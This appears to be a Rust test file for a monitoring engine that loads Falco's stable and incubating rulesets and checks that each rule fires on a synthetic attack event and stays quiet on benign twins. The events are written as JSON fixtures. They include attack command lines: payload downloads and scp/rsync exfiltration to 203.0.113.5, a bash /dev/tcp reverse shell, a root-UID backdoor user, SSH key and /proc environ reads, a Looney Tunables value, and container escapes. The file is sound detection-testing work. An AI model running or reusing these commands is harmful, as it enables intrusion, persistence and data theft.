//! Falco's incubating ruleset on top of the stable one, both loaded unchanged from the
//! shared folder: every rule active, one realistic attack per incubating rule that fires
//! it, and the benign twins that must stay quiet. A rule that ships as a template (a
//! list left empty for the adopter to fill) is fired as a Falco user enables it: with a
//! small user rules file loaded after Falco's.
use std::{
    path::PathBuf,
    sync::atomic::{AtomicUsize, Ordering},
};

use serde_json::{Value, json};

use super::falco::{connect, container, exec, fired, open, statuses, syscall, with};
use crate::rules::Engine;

/// Falco's rulesets are test data kept beside the repository (`../shared`), never
/// copied into it.
pub(super) const FALCO_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/falco-rules/falco_rules.yaml"
);
pub(super) const INCUBATING_RULES: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../shared/falco-rules/falco-incubating_rules.yaml"
);

/// The incubating file reuses macros and lists of the stable one, so it loads second,
/// as Falco loads them.
fn engine() -> Engine {
    Engine::load_paths(&[FALCO_RULES.into(), INCUBATING_RULES.into()])
        .unwrap_or_else(|e| panic!("{e}"))
}

/// The rule names of the incubating file, read from the file itself so that the
/// coverage check follows the data rather than a copy of it.
fn incubating_rule_names() -> Vec<String> {
    let text = std::fs::read_to_string(INCUBATING_RULES).unwrap();
    text.lines()
        .filter_map(|l| l.strip_prefix("- rule: "))
        .map(|n| n.trim().to_string())
        .collect()
}

/// Loads Falco's rule files at `paths`, then `user_rules`: a user rules file as a Falco
/// adopter writes one to tune the rules that ship as templates, written to a temporary
/// folder and passed after Falco's files (as `falco -r` takes them).
pub(super) fn load_with_user_rules(paths: &[&str], user_rules: &str) -> Engine {
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    let dir = std::env::temp_dir().join(format!(
        "monitor-falco-user-rules-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    ));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("falco_rules.local.yaml");
    std::fs::write(&file, user_rules).unwrap();
    let mut all: Vec<PathBuf> = paths.iter().map(PathBuf::from).collect();
    all.push(file);
    let engine = Engine::load_paths(&all);
    let _ = std::fs::remove_dir_all(&dir);
    engine.unwrap_or_else(|e| panic!("{e}"))
}

/// The adopter's tuning of "Network Connection outside Local Subnet": its
/// `k8s.ns.name in (namespace_scope_network_only_subnet)` list ships empty (a template
/// to fill with the namespaces whose pods may only talk within the local subnets), so
/// as shipped no event fires it.
const USER_RULES: &str = "
- list: namespace_scope_network_only_subnet
  items: [payments]
  override:
    items: append
";

/// Falco's two files and the adopter's tuning.
fn tuned_engine() -> Engine {
    load_with_user_rules(&[FALCO_RULES, INCUBATING_RULES], USER_RULES)
}

/// A pod of the `payments` namespace, the one the user rules watch.
fn payments_pod(event: Value) -> Value {
    container(with(
        event,
        json!({"container": {"name": "payments-api", "image": "registry.local/payments-api:2.4",
               "image_repository": "registry.local/payments-api", "image_tag": "2.4",
               "pod": {"name": "payments-api-7d9f", "namespace": "payments"}}}),
    ))
}

/// A connection accepted by a pod's server (accept4 on its listening socket).
fn accepted(name: &str, peer: &str, peer_port: u16, local: &str, local_port: u16) -> Value {
    with(
        syscall(
            name,
            "accept4",
            json!({"fd": 3, "flags": 0o2004000, "result": 7, "family": "inet",
                   "sock_type": "stream", "address": peer, "port": peer_port,
                   "local_address": local, "local_port": local_port}),
        ),
        json!({"process": {"exepath": format!("/app/{name}")}}),
    )
}

/// (expected rules that fire, event) on the tuned engine: the template rules.
fn tuned_fixtures() -> Vec<(Vec<&'static str>, Value)> {
    vec![
        (
            // A compromised payments pod calling out to the attacker's server.
            vec!["Network Connection outside Local Subnet"],
            payments_pod(with(
                connect("python3", "/usr/bin/python3", "203.0.113.5", 443),
                json!({"local_address": "10.244.1.17", "local_port": 41022}),
            )),
        ),
        (
            // The same pod serving a client from the internet: a port exposed past
            // its ingress.
            vec!["Network Connection outside Local Subnet"],
            payments_pod(accepted(
                "payments-api",
                "198.51.100.7",
                51514,
                "10.244.1.17",
                8443,
            )),
        ),
    ]
}

pub(super) const O_WRONLY: u64 = 0o1;
pub(super) const O_CREAT: u64 = 0o100;
pub(super) const O_TRUNC: u64 = 0o1000;
pub(super) const O_APPEND: u64 = 0o2000;
const O_DIRECTORY: u64 = 0o200000;
const O_CLOEXEC: u64 = 0o2000000;

/// Docker's default capability set: what an ordinary container's processes hold.
pub(super) const DOCKER_DEFAULT_CAPS: &str = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL \
     CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT \
     CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP";

/// Every capability: what `docker run --privileged` grants.
pub(super) const ALL_CAPS: &str = "CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID \
     CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE \
     CAP_NET_BROADCAST CAP_NET_ADMIN CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER CAP_SYS_MODULE \
     CAP_SYS_RAWIO CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT \
     CAP_SYS_NICE CAP_SYS_RESOURCE CAP_SYS_TIME CAP_SYS_TTY_CONFIG CAP_MKNOD CAP_LEASE \
     CAP_AUDIT_WRITE CAP_AUDIT_CONTROL CAP_SETFCAP CAP_MAC_OVERRIDE CAP_MAC_ADMIN \
     CAP_SYSLOG CAP_WAKE_ALARM CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF \
     CAP_CHECKPOINT_RESTORE";

/// The first process of a container (vpid 1), started by the runtime's shim.
pub(super) fn container_start(permitted: &str, privileged: bool) -> Value {
    container(with(
        exec("nginx", "/usr/sbin/nginx", &["-g", "daemon off;"]),
        json!({"process": {"vpid": 1, "cap_permitted": permitted, "cap_effective": permitted},
               "container": {"privileged": privileged},
               "ancestors": [{"pid": 90, "name": "containerd-shim", "exe": "containerd-shim",
                   "exepath": "/usr/bin/containerd-shim-runc-v2",
                   "cmdline": "containerd-shim -namespace moby"}]}),
    ))
}

/// A process run by `user` (uid `uid`) instead of root.
pub(super) fn as_user(event: Value, user: &str, uid: u64) -> Value {
    with(
        event,
        json!({"uid": uid, "process": {"user": user, "uid": uid}}),
    )
}

fn udp(event: Value) -> Value {
    with(event, json!({"sock_type": "dgram"}))
}

/// (expected rules that fire, event): at least one per incubating rule.
pub(super) fn fixtures() -> Vec<(Vec<&'static str>, Value)> {
    vec![
        (
            // Persistence through a login script, written by a dropped Python payload.
            vec!["Modify Shell Configuration File"],
            open(
                "python3",
                "/root/.bashrc",
                "/root/.bashrc",
                O_WRONLY | O_APPEND,
            ),
        ),
        (
            vec!["Modify Shell Configuration File"],
            open("perl", "/etc/profile", "/etc/profile", O_WRONLY | O_TRUNC),
        ),
        (
            vec!["Schedule Cron Jobs"],
            open(
                "python3",
                "/etc/cron.d/update",
                "/etc/cron.d/update",
                O_WRONLY | O_CREAT | O_TRUNC,
            ),
        ),
        (
            vec!["Schedule Cron Jobs"],
            exec("crontab", "/usr/bin/crontab", &["/tmp/.c"]),
        ),
        (
            vec!["Read ssh information"],
            open("cat", "/root/.ssh/id_rsa", "/root/.ssh/id_rsa", 0),
        ),
        (
            vec!["Read ssh information"],
            open("ls", "/root/.ssh", "/root/.ssh", O_DIRECTORY),
        ),
        (
            vec!["Read ssh information"],
            open(
                "python3",
                "/home/alice/.ssh/id_ed25519",
                "/home/alice/.ssh/id_ed25519",
                0,
            ),
        ),
        (
            // SQL injection through `COPY ... FROM PROGRAM`: postgres runs a shell.
            vec!["DB program spawned process", "Run shell untrusted"],
            with(
                exec("sh", "/bin/sh", &["-c", "id"]),
                json!({"process": {"user": "postgres", "uid": 999},
                       "ancestors": [{"pid": 99, "name": "postgres", "exe": "postgres",
                           "exepath": "/usr/lib/postgresql/16/bin/postgres",
                           "cmdline": "postgres: postgres db 10.0.0.5(51234) COPY"}]}),
            ),
        ),
        (
            vec!["DB program spawned process"],
            with(
                exec("curl", "/usr/bin/curl", &["-s", "http://203.0.113.5/x"]),
                json!({"ancestors": [{"pid": 99, "name": "mysqld", "exe": "mysqld",
                    "exepath": "/usr/sbin/mysqld", "cmdline": "mysqld"}]}),
            ),
        ),
        (
            // A container escape: join the host's namespaces through pid 1.
            vec!["Change thread namespace"],
            container(with(
                syscall("nsenter", "setns", json!({"fd": 3, "nstype": 0x0002_0000})),
                json!({"process": {"args": ["--target", "1", "--mount", "--", "sh"]}}),
            )),
        ),
        (
            // `unshare -Urm` from an unprivileged container: a new user namespace
            // whose root holds every capability.
            vec!["Change namespace privileges via unshare"],
            container(with(
                syscall(
                    "unshare",
                    "unshare",
                    json!({"flags": 0x1000_0000u64 | 0x0002_0000}),
                ),
                json!({"process": {"args": ["-Urm"], "cap_permitted": DOCKER_DEFAULT_CAPS,
                       "cap_effective": DOCKER_DEFAULT_CAPS}}),
            )),
        ),
        (
            vec![
                "Launch Excessively Capable Container",
                "Launch Privileged Container",
            ],
            container_start(ALL_CAPS, true),
        ),
        (
            // `--cap-add SYS_ADMIN` without `--privileged`.
            vec!["Launch Excessively Capable Container"],
            container_start(&format!("{DOCKER_DEFAULT_CAPS} CAP_SYS_ADMIN"), false),
        ),
        (
            // A bash reverse shell (`bash -i >& /dev/tcp/203.0.113.5/4444`).
            vec!["System procs network activity"],
            connect("bash", "/usr/bin/bash", "203.0.113.5", 4444),
        ),
        (
            vec!["Program run with disallowed http proxy env"],
            with(
                exec(
                    "curl",
                    "/usr/bin/curl",
                    &["-s", "https://api.internal/v1/keys"],
                ),
                json!({"process": {"env": "PATH=/usr/bin HTTP_PROXY=http://203.0.113.5:8080"}}),
            ),
        ),
        (
            vec!["Program run with disallowed http proxy env"],
            with(
                exec("wget", "/usr/bin/wget", &["https://example.com/"]),
                json!({"process": {"env": ["HOME=/root", "http_proxy=http://203.0.113.5:3128"]}}),
            ),
        ),
        (
            vec!["Unexpected UDP Traffic"],
            udp(connect("python3", "/usr/bin/python3", "203.0.113.5", 31337)),
        ),
        (
            // A web server's user becoming root, right after a local exploit.
            vec!["Non sudo setuid"],
            as_user(
                syscall("exploit", "setuid", json!({"target_uid": 0})),
                "www-data",
                33,
            ),
        ),
        (
            vec!["User mgmt binaries"],
            exec(
                "useradd",
                "/usr/sbin/useradd",
                &["-o", "-u", "0", "-m", "backdoor"],
            ),
        ),
        (
            vec!["User mgmt binaries"],
            exec("passwd", "/usr/bin/passwd", &["root"]),
        ),
        (
            // Rootkits hide their files among the device nodes.
            vec!["Create files below dev"],
            open(
                "python3",
                "/dev/.udev-cache",
                "/dev/.udev-cache",
                O_WRONLY | O_CREAT,
            ),
        ),
        (
            vec![
                "Contact EC2 Instance Metadata Service From Container",
                "Contact cloud metadata service from container",
            ],
            container(connect("curl", "/usr/bin/curl", "169.254.169.254", 80)),
        ),
        (
            // kube-system may ask the cloud metadata service, but the EC2 rule has
            // no such exception.
            vec!["Contact EC2 Instance Metadata Service From Container"],
            container(with(
                connect("aws", "/usr/local/bin/aws", "169.254.169.254", 80),
                json!({"container": {"pod": {"namespace": "kube-system"}}}),
            )),
        ),
        (
            vec!["Launch Package Management Process in Container"],
            container(exec(
                "apt-get",
                "/usr/bin/apt-get",
                &["install", "-y", "nmap"],
            )),
        ),
        (
            vec!["Launch Package Management Process in Container"],
            container(exec(
                "pip",
                "/usr/local/bin/pip",
                &["install", "pycryptodome"],
            )),
        ),
        (
            vec!["Launch Suspicious Network Tool in Container"],
            container(exec("nmap", "/usr/bin/nmap", &["-sS", "10.0.0.0/24"])),
        ),
        (
            vec!["Launch Suspicious Network Tool on Host"],
            exec(
                "tcpdump",
                "/usr/sbin/tcpdump",
                &["-i", "eth0", "-w", "/tmp/c"],
            ),
        ),
        (
            // `> ~/.bash_history` from the shell itself: bash truncates the file.
            vec!["Delete or rename shell history"],
            open(
                "bash",
                "/root/.bash_history",
                "/root/.bash_history",
                O_WRONLY | O_CREAT | O_TRUNC,
            ),
        ),
        (
            vec!["Delete or rename shell history"],
            open(
                "zsh",
                "/home/alice/.zsh_history",
                "/home/alice/.zsh_history",
                O_WRONLY | O_CREAT | O_TRUNC,
            ),
        ),
        (
            // `cp /dev/null ~/.bash_history`: a program other than a shell truncating
            // the history also modifies a shell file (.bash_history is one of them).
            vec![
                "Delete or rename shell history",
                "Modify Shell Configuration File",
            ],
            open(
                "cp",
                "/root/.bash_history",
                "/root/.bash_history",
                O_WRONLY | O_TRUNC,
            ),
        ),
        (
            // `chmod u+s /tmp/bash`: coreutils' chmod calls fchmodat.
            vec!["Set Setuid or Setgid bit"],
            with(
                syscall(
                    "chmod",
                    "fchmodat",
                    json!({"dirfd": -100, "path": "/tmp/bash", "mode": 0o4755}),
                ),
                json!({"process": {"args": ["u+s", "/tmp/bash"]}}),
            ),
        ),
        (
            vec!["Set Setuid or Setgid bit"],
            syscall(
                "python3",
                "chmod",
                json!({"path": "/tmp/.x", "mode": 0o2755}),
            ),
        ),
        (
            vec!["Set Setuid or Setgid bit"],
            syscall("gcc", "fchmod", json!({"fd": 4, "mode": 0o6755})),
        ),
        (
            vec!["Launch Remote File Copy Tools in Container"],
            container(exec(
                "scp",
                "/usr/bin/scp",
                &["/app/db.sqlite", "x@203.0.113.5:/tmp/"],
            )),
        ),
        (
            vec!["Launch Remote File Copy Tools in Container"],
            container(exec(
                "rsync",
                "/usr/bin/rsync",
                &["-a", "/data/", "203.0.113.5::loot"],
            )),
        ),
        (
            // The classic privileged-container escape: mount the host's disk.
            vec!["Mount Launched in Privileged Container"],
            container(with(
                exec("mount", "/bin/mount", &["/dev/sda1", "/mnt"]),
                json!({"container": {"privileged": true}}),
            )),
        ),
        (
            vec!["Launch Ingress Remote File Copy Tools in Container"],
            container(exec(
                "wget",
                "/usr/bin/wget",
                &["http://203.0.113.5/xmrig", "-O", "/tmp/xmrig"],
            )),
        ),
        (
            vec!["Launch Ingress Remote File Copy Tools in Container"],
            container(exec(
                "curl",
                "/usr/bin/curl",
                &["-s", "http://203.0.113.5/x.sh", "-o", "/tmp/x.sh"],
            )),
        ),
        (
            // Secrets passed as environment variables, read from another process.
            vec!["Read environment variable from /proc files"],
            container(open("cat", "/proc/1/environ", "/proc/1/environ", 0)),
        ),
        (
            // `kubectl cp` runs `tar cf -` through the runtime, with no terminal.
            vec!["Exfiltrating Artifacts via Kubernetes Control Plane"],
            container(with(
                open(
                    "tar",
                    "/app/config/credentials.json",
                    "/app/config/credentials.json",
                    0,
                ),
                json!({"process": {"args": ["cf", "-", "/app/config"]},
                       "ancestors": [{"pid": 90, "name": "runc:[1:CHILD]"}]}),
            )),
        ),
        (
            vec!["Adding ssh keys to authorized_keys"],
            open(
                "python3",
                "/root/.ssh/authorized_keys",
                "/root/.ssh/authorized_keys",
                O_WRONLY | O_APPEND | O_CREAT,
            ),
        ),
        (
            vec!["Adding ssh keys to authorized_keys"],
            open(
                "bash",
                "/home/alice/.ssh/authorized_keys",
                "/home/alice/.ssh/authorized_keys",
                O_WRONLY | O_APPEND,
            ),
        ),
        (
            // CVE-2023-4911 (Looney Tunables): a crafted GLIBC_TUNABLES for a setuid su.
            vec!["Potential Local Privilege Escalation via Environment Variables Misuse"],
            as_user(
                with(
                    exec("su", "/usr/bin/su", &["--help"]),
                    json!({"process": {"env": "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A"}}),
                ),
                "alice",
                1000,
            ),
        ),
        (
            // Falco's fd.name is the path as opened (not resolved through the
            // `liblzma.so.5` symlink): the rule sees the version where it is named.
            vec!["Backdoored library loaded into SSHD (CVE-2024-3094)"],
            open(
                "sshd",
                "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1",
                "/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1",
                O_CLOEXEC,
            ),
        ),
        (
            vec!["BPF Program Not Profiled"],
            syscall("loader", "bpf", json!({"cmd": 5, "result": 7})),
        ),
    ]
}

#[test]
fn falco_stable_and_incubating_rulesets_load_with_every_rule_active() {
    let engine = engine();
    let (active, disabled, skipped) = statuses(&engine);
    assert_eq!(active.len(), 56, "{active:#?}");
    assert_eq!(disabled, Vec::<String>::new());
    assert_eq!(skipped, Vec::<String>::new());
}

#[test]
fn every_active_incubating_rule_fires_on_its_fixture() {
    let engine = engine();
    let tuned = tuned_engine();
    let mut covered: Vec<String> = Vec::new();
    // Every mismatch at once: one fixture's surprise often explains another's.
    let mut wrong = Vec::new();
    for (engine, fixtures) in [(&engine, fixtures()), (&tuned, tuned_fixtures())] {
        for (expected, event) in fixtures {
            let mut expected: Vec<String> = expected.iter().map(|s| s.to_string()).collect();
            expected.sort();
            let got = fired(engine, &event);
            if got != expected {
                wrong.push(format!("expected {expected:?}, got {got:?}: {event}"));
            }
            covered.extend(expected);
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
    // As shipped, the template rule stays quiet on its fixtures.
    for (_, event) in tuned_fixtures() {
        assert_eq!(fired(&engine, &event), Vec::<String>::new(), "{event}");
    }
    let incubating = incubating_rule_names();
    assert_eq!(incubating.len(), 31, "{incubating:#?}");
    for rule in engine.rules() {
        let name = rule.name.as_str();
        if !incubating.iter().any(|n| n == name) {
            continue;
        }
        assert!(
            covered.iter().any(|c| c == name),
            "no fixture fires '{name}'"
        );
    }
}

#[test]
fn incubating_near_misses_stay_quiet() {
    let engine = engine();
    let quiet = [
        // A shell appending to its own history: shells may, and nothing is truncated.
        open(
            "bash",
            "/root/.bash_history",
            "/root/.bash_history",
            O_WRONLY | O_APPEND | O_CREAT,
        ),
        // cron reading its own table.
        open("cron", "/etc/crontab", "/etc/crontab", 0),
        // ssh reading the user's key, and sshd the authorized keys.
        open("ssh", "/root/.ssh/id_rsa", "/root/.ssh/id_rsa", 0),
        open(
            "sshd",
            "/home/alice/.ssh/authorized_keys",
            "/home/alice/.ssh/authorized_keys",
            0,
        ),
        // The liblzma before the backdoor.
        open(
            "sshd",
            "/usr/lib/x86_64-linux-gnu/liblzma.so.5.4.5",
            "/usr/lib/x86_64-linux-gnu/liblzma.so.5.4.5",
            O_CLOEXEC,
        ),
        // The database server starting a copy of itself.
        with(
            exec("mysqld", "/usr/sbin/mysqld", &["--initialize"]),
            json!({"ancestors": [{"pid": 99, "name": "mysqld"}]}),
        ),
        // nsenter on the host is how admins debug containers.
        with(
            syscall("nsenter", "setns", json!({"fd": 3, "nstype": 0x0002_0000})),
            json!({"container": {"id": "host", "name": "host"}}),
        ),
        // unshare by a container that holds CAP_SYS_ADMIN anyway.
        container(with(
            syscall("unshare", "unshare", json!({"flags": 0x0002_0000})),
            json!({"process": {"cap_permitted": ALL_CAPS}}),
        )),
        // Falco's own privileged container starting.
        with(
            container_start(ALL_CAPS, true),
            json!({"container": {"image": "falcosecurity/falco:0.39.0",
                   "image_repository": "falcosecurity/falco", "image_tag": "0.39.0"}}),
        ),
        // An ordinary container starting with Docker's default capabilities.
        container_start(DOCKER_DEFAULT_CAPS, false),
        // A non-system program on the same connection as the reverse shell.
        connect("curl", "/usr/bin/curl", "203.0.113.5", 4444),
        // curl without a proxy in its environment.
        with(
            exec("curl", "/usr/bin/curl", &["-s", "https://example.com/"]),
            json!({"process": {"env": "PATH=/usr/bin HOME=/root"}}),
        ),
        // DNS and NTP over UDP.
        udp(connect("python3", "/usr/bin/python3", "8.8.8.8", 53)),
        udp(connect(
            "chronyd",
            "/usr/sbin/chronyd",
            "162.159.200.1",
            123,
        )),
        // sudo changing user, and root dropping privileges.
        as_user(
            syscall("sudo", "setuid", json!({"target_uid": 0})),
            "alice",
            1000,
        ),
        syscall("nginx", "setuid", json!({"target_uid": 33})),
        // Read-only user management commands, and usermod run by cron.
        exec("passwd", "/usr/bin/passwd", &["-S", "alice"]),
        exec("chage", "/usr/bin/chage", &["-l", "alice"]),
        with(
            exec("usermod", "/usr/sbin/usermod", &["-L", "temp"]),
            json!({"ancestors": [{"pid": 99, "name": "cron"}]}),
        ),
        // User management inside a container (images create their users at start).
        container(exec("useradd", "/usr/sbin/useradd", &["app"])),
        // Opening the allowed device files, creating included.
        open(
            "python3",
            "/dev/null",
            "/dev/null",
            O_WRONLY | O_CREAT | O_TRUNC,
        ),
        // The metadata service asked from the host: only containers are watched.
        connect("curl", "/usr/bin/curl", "169.254.169.254", 80),
        // dpkg run by apt-get: only the outermost package manager is reported.
        container(with(
            exec(
                "dpkg",
                "/usr/bin/dpkg",
                &["-i", "/var/cache/apt/archives/x.deb"],
            ),
            json!({"ancestors": [{"pid": 99, "name": "apt-get"}]}),
        )),
        // The package manager's own user (apt drops to _apt to download).
        container(with(
            exec("apt-get", "/usr/bin/apt-get", &["update"]),
            json!({"process": {"user": "_apt", "uid": 42}}),
        )),
        // curl printing a page, and mount listing the mounts of a privileged container.
        container(exec(
            "curl",
            "/usr/bin/curl",
            &["-s", "http://example.com/"],
        )),
        container(with(
            exec("mount", "/bin/mount", &["-l"]),
            json!({"container": {"privileged": true}}),
        )),
        // mount in an unprivileged container.
        container(exec("mount", "/bin/mount", &["/dev/sda1", "/mnt"])),
        // An ordinary mode; a program load by Falco itself, and a map lookup.
        syscall(
            "chmod",
            "fchmodat",
            json!({"dirfd": -100, "path": "/tmp/run.sh", "mode": 0o755}),
        ),
        syscall("falco", "bpf", json!({"cmd": 5, "result": 7})),
        syscall("loader", "bpf", json!({"cmd": 1, "result": 0})),
        // Another process's status rather than its environment, and argoexec, which
        // reads environ by design.
        container(open("cat", "/proc/1/status", "/proc/1/status", 0)),
        container(open("argoexec", "/proc/7/environ", "/proc/7/environ", 0)),
        // tar in an interactive `kubectl exec` session, and tar reading /etc.
        container(with(
            open(
                "tar",
                "/app/config/credentials.json",
                "/app/config/credentials.json",
                0,
            ),
            json!({"process": {"tty": 34816}, "ancestors": [{"pid": 90, "name": "runc:[1:CHILD]"}]}),
        )),
        container(with(
            open("tar", "/etc/hostname", "/etc/hostname", 0),
            json!({"ancestors": [{"pid": 90, "name": "runc:[1:CHILD]"}]}),
        )),
        // An outbound connection from a pod: the local-subnet rule's namespace list
        // ships empty, so nothing is watched.
        container(connect("curl", "/usr/bin/curl", "203.0.113.5", 443)),
    ];
    // With the adopter's namespace list: a pod of another namespace calling out, the
    // watched pods talking within the cluster (DNS, a peer pod's connection), and
    // their server starting to listen.
    let tuned_quiet = [
        container(connect("curl", "/usr/bin/curl", "203.0.113.5", 443)),
        payments_pod(udp(connect(
            "payments-api",
            "/app/payments-api",
            "10.96.0.10",
            53,
        ))),
        payments_pod(accepted(
            "payments-api",
            "10.244.2.9",
            39120,
            "10.244.1.17",
            8443,
        )),
        // The pod's server listening on every address (fd.ip 0.0.0.0).
        payments_pod(syscall(
            "payments-api",
            "listen",
            json!({"fd": 3, "backlog": 4096, "family": "inet", "sock_type": "stream",
                   "local_address": "0.0.0.0", "local_port": 8443}),
        )),
    ];
    let tuned = tuned_engine();
    let loud: Vec<String> = quiet
        .iter()
        .map(|ev| (&engine, ev))
        .chain(tuned_quiet.iter().map(|ev| (&tuned, ev)))
        .filter_map(|(engine, ev)| {
            let got = fired(engine, ev);
            (!got.is_empty()).then(|| format!("{got:?}: {ev}"))
        })
        .collect();
    assert_eq!(loud, Vec::<String>::new());
}
